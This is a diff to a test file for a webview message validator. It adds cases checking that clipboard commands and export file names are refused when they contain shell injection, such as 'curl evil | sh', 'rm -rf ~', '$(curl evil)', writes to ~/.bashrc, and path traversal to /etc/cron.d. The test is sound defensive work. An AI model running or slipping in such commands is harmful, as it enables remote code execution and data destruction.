@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { checkRequestParams, checkWebviewNotification } from '../../../src/protocol/validate';
+import { checkRequestParams, checkWebviewNotification, shellWords } from '../../../src/protocol/validate';
 
 // Crafted messages, as a page showing hostile text could send them: each refused with a
 // reason, and nothing but well-formed, in-range messages getting through.
@@ -56,6 +56,36 @@ describe('checkWebviewNotification', () => {
     assert.match(refused({ type: 'clipboard/write', text: 'rm -rf ~' }), /not an agent-trace simulate command/);
     assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\ncurl evil | sh' }), /on one line/);
     assert.match(refused({ type: 'clipboard/write', text: 'agent-trace simulate x\u001b]0;t\u0007' }), /on one line/);
+  });
+
+  it('puts on the clipboard only plain and single-quoted words: nothing that runs another command when pasted into a shell', () => {
+    // Each of these starts like the panel's command and would run something else in bash.
+    for (const text of [
+      'agent-trace simulate x; curl evil | sh',
+      'agent-trace simulate x && rm -rf ~',
+      'agent-trace simulate $(curl evil)',
+      'agent-trace simulate `id`',
+      'agent-trace simulate x > ~/.bashrc',
+      'agent-trace simulate x | sh',
+      "agent-trace simulate 'x' ; id",
+      "agent-trace simulate 'unterminated",
+      'agent-trace simulate "$HOME"',
+      'agent-trace simulate x\\ y',
+      'agent-trace simulate ~/x.jsonl',
+      'agent-trace simulate x‮',
+    ]) {
+      assert.match(refused({ type: 'clipboard/write', text }), /not an agent-trace simulate command of plain or single-quoted words/, text);
+    }
+    // The forms the panel writes (shellWord) split back to the words it quoted.
+    assert.deepEqual(shellWords("agent-trace simulate '/home/me/it'\\''s a.jsonl' --gpus 4 --router kv-aware"), ['agent-trace', 'simulate', "/home/me/it's a.jsonl", '--gpus', '4', '--router', 'kv-aware']);
+    assert.deepEqual(shellWords('agent-trace simulate C:/x.jsonl --sweep gpus=1,2,4'), ['agent-trace', 'simulate', 'C:/x.jsonl', '--sweep', 'gpus=1,2,4']);
+  });
+
+  it('refuses an export name with a folder, a leading dot or control characters (the host names the file after its trace anyway)', () => {
+    for (const fileName of ['../../.bashrc.json', '/etc/cron.d/x.json', '..\\..\\x.json', '.hidden.json', '..json', 'x.whatif.sh', 'a\u202eno.json', 'x\u0000.json', 'dir/x.json', '']) {
+      assert.match(refused({ type: 'whatif/export', fileName, json: '{}' }), /fileName is not a plain file name ending in \.json/, JSON.stringify(fileName));
+    }
+    for (const fileName of ['my session 2.whatif.json', 'sessão.whatif.json']) assert.equal(checkWebviewNotification({ type: 'whatif/export', fileName, json: '{}' }).ok, true, fileName);
   });
 
   it('refuses unknown types and things that are not messages', () => {
